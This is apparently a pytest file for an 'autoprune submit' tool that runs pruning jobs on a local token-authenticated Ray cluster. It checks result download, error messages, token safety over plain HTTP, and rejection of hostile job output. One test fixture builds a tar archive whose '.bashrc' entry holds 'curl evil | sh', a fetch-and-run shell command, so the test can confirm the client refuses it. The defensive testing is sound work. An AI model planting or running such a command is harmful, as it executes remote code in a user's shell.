"""`autoprune submit` against a real token-authenticated Ray head on 127.0.0.1 (started and stopped here)."""

from __future__ import annotations

import gzip
import os
import secrets
import socket
import sys
import threading
import time
from pathlib import Path

import psutil
import pytest
import torch
from conftest import run_cli
from ray_helpers import free_port, start_head, stop_session

from autoprune.distributed.job import BEGIN, END, emit, pack
from autoprune.distributed.submit import LogFilter, extract_payload, unpack
from autoprune.export import load_pruned
from autoprune.plan import Plan

TINY = ["--evaluations", "8", "--rollout", "4", "--eval-samples", "100", "--quiet"]


@pytest.fixture(scope="module")
def head(tmp_path_factory, cache_dir):
    """A Ray head with the Jobs API on 127.0.0.1 and token auth (its token only in our environment)."""
    temp = tmp_path_factory.mktemp("ray")
    token = secrets.token_hex(16)
    dashboard = free_port()
    bin_dir = str(Path(sys.executable).parent)
    env = {**os.environ, "RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token}
    env["PATH"] = bin_dir + os.pathsep + env.get("PATH", "")  # the job's `python` is this environment's
    extra = [
        "--dashboard-host=127.0.0.1", f"--dashboard-port={dashboard}", "--include-dashboard=true", f"--temp-dir={temp}",
    ]  # fmt: skip
    sid = start_head(env, extra)
    try:
        yield {"address": f"http://127.0.0.1:{dashboard}", "token": token}
    finally:
        stop_session(sid)


def test_submitted_search_succeeds_and_its_results_come_back(head, tmp_path: Path) -> None:
    download = tmp_path / "results"
    result = run_cli(
        "submit", "--address", head["address"], "--download", str(download),
        "--", "search", "--target-flops", "0.5", "--workers", "2", *TINY,
        env={"RAY_AUTH_TOKEN": head["token"]},
    )  # fmt: skip
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert "succeeded" in result.stdout and BEGIN not in result.stdout  # the payload is not echoed
    for name in ("plan.json", "summary.md", "metrics.csv", "pruned.pt"):
        assert (download / name).is_file(), name
    plan = Plan.load(download / "plan.json")
    assert plan.achieved["flops_ratio"] <= 0.5 + 1e-9
    assert plan.metrics["evaluations"] == 8
    lines = (download / "metrics.csv").read_text().splitlines()
    assert [int(row.split(",")[0]) for row in lines[1:]] == list(range(1, 9))
    assert load_pruned(download / "pruned.pt")(torch.zeros(2, 1, 8, 8)).shape == (2, 10)


def test_failed_job_is_one_line_naming_the_job_and_its_logs(head) -> None:
    env = {"RAY_AUTH_TOKEN": head["token"]}
    result = run_cli("submit", "--address", head["address"], "--", "search", "--dataset", "imagenet", env=env)
    assert result.returncode == 2
    error = result.stderr.strip().splitlines()[-1]
    assert error.startswith("autoprune: error: job autoprune-") and "unknown dataset" in error
    job_id = error.split()[3]
    assert f"--logs {job_id}" in error

    logs = run_cli("submit", "--address", head["address"], "--logs", job_id, env=env)
    assert logs.returncode == 2 and "unknown dataset 'imagenet'" in logs.stdout


def test_missing_token_is_a_clear_error(head, tmp_path: Path) -> None:
    env = {"RAY_AUTH_TOKEN": "", "HOME": str(tmp_path)}
    result = run_cli("submit", "--address", head["address"], "--logs", "anything", env=env)
    assert result.returncode == 2
    assert "requires token authentication" in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_results_payload_round_trips_and_hides_from_the_stream(tmp_path: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (run / "plan.json").write_text('{"a": 1}')
    (run / "tb").mkdir()  # not a result file: stays behind
    payload, notes = pack(run)
    assert not notes

    class Sink(list):
        def write(self, text: str) -> None:
            self.append(text)

        def flush(self) -> None:
            pass

    sink = Sink()
    emit(payload, out=sink)
    log = "before\n" + "".join(sink) + "after\n"
    shown: list[str] = []
    stream = LogFilter(shown.append)
    for i in range(0, len(log), 7):  # chunk boundaries fall inside lines
        stream.feed(log[i : i + 7])
    stream.close()
    assert shown[0] == "before" and shown[-1] == "after" and len(shown) == 3
    files = unpack(extract_payload(log), tmp_path / "out")
    assert [f.name for f in files] == ["plan.json"] and files[0].read_text() == '{"a": 1}'
    assert END in log


def test_info_runs_as_a_job_with_nothing_to_fetch(head, tmp_path: Path) -> None:
    """`submit -- info`: no --out is appended (info has none), its output streams, nothing is fetched."""
    result = run_cli(
        "submit", "--address", head["address"], "--download", str(tmp_path / "results"), "--", "info",
        env={"RAY_AUTH_TOKEN": head["token"]},
    )  # fmt: skip
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    assert "groups (root" in result.stdout and "nothing to fetch" in result.stdout
    assert "results: none" not in result.stdout  # the job's marker line is not echoed
    assert not (tmp_path / "results").exists()


def raw_job(head, log_text: str, tmp_path: Path) -> str:
    """A job (not ours) whose whole log is `log_text`: what a hostile or broken cluster could print."""
    from ray.job_submission import JobSubmissionClient

    source = tmp_path / f"log-{secrets.token_hex(4)}.txt"
    source.write_text(log_text)
    client = JobSubmissionClient(head["address"], headers={"Authorization": f"Bearer {head['token']}"})
    job_id = client.submit_job(entrypoint=f"cat {source}")
    deadline = time.monotonic() + 120
    while str(client.get_job_status(job_id).value) not in ("SUCCEEDED", "FAILED", "STOPPED"):
        assert time.monotonic() < deadline, "the raw job did not end"
        time.sleep(0.5)
    assert str(client.get_job_status(job_id).value) == "SUCCEEDED"
    return job_id


def payload_log(payload: bytes) -> str:
    class Sink(list):
        def write(self, text: str) -> None:
            self.append(text)

        def flush(self) -> None:
            pass

    sink = Sink()
    emit(payload, out=sink)
    return "job output\n" + "".join(sink)


def tar_gz(*entries: tuple[str, bytes]) -> bytes:
    import io
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def test_hostile_job_logs_write_nothing_and_fail_in_one_line(head, tmp_path: Path) -> None:
    env = {"RAY_AUTH_TOKEN": head["token"]}
    cases = [
        ("refusing results entry '.bashrc'", tar_gz(("plan.json", b"{}"), (".bashrc", b"curl evil | sh"))),
        ("not a readable tar.gz", b"this is not gzip"),
        ("not a readable tar.gz", gzip.compress(b"gzip but no tar" * 100)),
    ]
    for expected, payload in cases:
        job_id = raw_job(head, payload_log(payload), tmp_path)
        dest = tmp_path / f"dest-{job_id}"
        result = run_cli("submit", "--address", head["address"], "--logs", job_id, "--download", str(dest), env=env)
        assert result.returncode == 2, result.stdout[-2000:] + result.stderr[-2000:]
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and expected in lines[0], result.stderr
        assert not dest.exists()
        assert not [p for p in tmp_path.iterdir() if p.name.endswith(".partial")]


def test_existing_results_need_force(head, tmp_path: Path) -> None:
    env = {"RAY_AUTH_TOKEN": head["token"]}
    job_id = raw_job(head, payload_log(tar_gz(("plan.json", b"from the job"))), tmp_path)
    dest = tmp_path / "results"
    dest.mkdir()
    (dest / "plan.json").write_text("mine")
    args = ("submit", "--address", head["address"], "--logs", job_id, "--download", str(dest))
    result = run_cli(*args, env=env)
    assert result.returncode == 2 and "--force" in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert "job output" not in result.stdout  # refused before following the job
    assert (dest / "plan.json").read_text() == "mine"

    result = run_cli(*args, "--force", env=env)
    assert result.returncode == 0, result.stderr
    assert (dest / "plan.json").read_text() == "from the job"


def external_ipv4() -> str | None:
    for addresses in psutil.net_if_addrs().values():
        for address in addresses:
            if address.family == socket.AF_INET and not address.address.startswith("127."):
                return address.address
    return None


def test_token_is_not_sent_over_plain_http_to_another_machine(tmp_path: Path) -> None:
    """Off-machine plain HTTP: refused before any byte is sent, unless --insecure-token says to send it."""
    ip = external_ipv4()
    if ip is None:
        pytest.skip("this machine has no non-loopback IPv4 address")
    received: list[bytes] = []
    server = socket.socket()
    server.bind((ip, 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(5)
                try:
                    received.append(conn.recv(65536))
                    conn.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        address = f"http://{ip}:{server.getsockname()[1]}"
        env = {"RAY_AUTH_TOKEN": "s3cret-token-value", "HOME": str(tmp_path)}
        result = run_cli("submit", "--address", address, "--logs", "anything", env=env, timeout=120)
        assert result.returncode == 2 and "--insecure-token" in result.stderr
        assert len(result.stderr.strip().splitlines()) == 1
        time.sleep(0.5)
        assert received == []  # nothing reached the server

        result = run_cli("submit", "--address", address, "--insecure-token", "--logs", "anything", env=env, timeout=120)
        assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1  # not a Ray server
        assert any(b"Bearer s3cret-token-value" in r for r in received)  # the flag does send it
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()
